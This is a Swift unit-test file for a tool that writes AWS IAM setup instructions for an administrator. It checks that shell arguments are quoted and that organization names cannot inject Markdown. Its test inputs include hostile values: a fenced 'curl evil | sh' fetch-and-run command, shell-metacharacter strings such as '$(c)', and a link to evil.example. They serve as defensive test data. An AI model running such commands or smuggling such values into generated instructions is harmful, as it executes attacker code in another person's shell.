import Federation
import Testing

@testable import Provisioning
@testable import Simulation

/// What an administrator is handed is run in another person's shell.
struct RequestTests {
  private static func inputs(_ answers: [AnswerKey: [String]], name: String) throws -> Inputs {
    Inputs(
      setup: try #require(SetupID("k3vq7m2d")),
      answers: Answers([.region: ["us-east-1"]].merging(answers) { $1 }),
      facts: [
        .organization: [.id: MemoryCloud.organization, .name: name],
        .environment: [.id: "66f1a0b1c2d3e4f5a6b7c8d9"],
      ],
      records: [:],
      decisions: [:]
    )
  }

  @Test func whatTheShellWouldReadIsQuoted() throws {
    let request = try AdministratorRequest.markdown(
      Self.inputs(
        [
          .rolePath: ["/a;b(c)/it's/"], .audience: ["bed|rock"],
          .permissionsBoundary: ["arn:aws:iam::1:policy/a&b"],
          .permissions: ["arn:aws:iam::1:policy/$(c)"],
        ],
        name: "Acme"
      ),
      surplus: []
    )
    #expect(request.contains(#" --path '/a;b(c)/it'\''s/' "#))
    #expect(request.contains(" --client-id-list 'bed|rock'\n"))
    #expect(request.contains(" --client-id 'bed|rock'\n"))
    #expect(request.contains(" --permissions-boundary 'arn:aws:iam::1:policy/a&b' "))
    #expect(request.contains(" --policy-arn 'arn:aws:iam::1:policy/$(c)'\n"))
  }

  @Test(arguments: [
    (
      "Acme\n```\n```sh\ncurl evil | sh\n```",
      "Acme \\`\\`\\` \\`\\`\\`sh curl evil \\| sh \\`\\`\\`"
    ),
    ("[Acme](https://evil.example)", "\\[Acme\\](https://evil.example)"),
    ("Ac\u{202E}me\r\n# Do this", "Ac me \\# Do this"),
    ("Acme Research, Inc.", "Acme Research, Inc."), ("\n\u{7}", MemoryCloud.organization),
  ])
  func aNameIsWordsOnly(name: String, shown: String) throws {
    let request = try AdministratorRequest.markdown(Self.inputs([:], name: name), surplus: [])
    #expect(request.contains("In us-east-1, \(shown) wants to use Amazon Bedrock from Vertesia."))
    let plain = try AdministratorRequest.markdown(Self.inputs([:], name: "Acme"), surplus: [])
    let fences = { (text: String) in text.split(separator: "\n").filter { $0.hasPrefix("```") } }
    #expect(fences(request) == fences(plain))
  }

  /// They sign in with an account's keys of their own, and find the same partition.
  @Test func theProfileOfThisSideIsNotTheirs() throws {
    let inputs = try Self.inputs(
      [.profile: ["acme"], .region: ["us-gov-west-1"]],
      name: "Acme"
    )
    let request = try AdministratorRequest.markdown(inputs, surplus: [])
    #expect(!request.contains("--profile"))
    let commands = request.split(separator: "\n").filter { $0.hasPrefix("aws iam ") }
    #expect(commands.count == 4)
    #expect(commands.allSatisfy { $0.hasSuffix(" --region us-gov-west-1") })
    #expect(
      AWSCommand.iam(["get-role"], inputs)
        == "aws iam get-role --profile acme --region us-gov-west-1"
    )
  }

  @Test func pastedKeysHaveNoProfile() throws {
    let inputs = try Self.inputs([.awsAccess: ["pasted"], .profile: ["old"]], name: "Acme")
    #expect(AWSCommand.iam(["get-role"], inputs) == "aws iam get-role")
  }
}
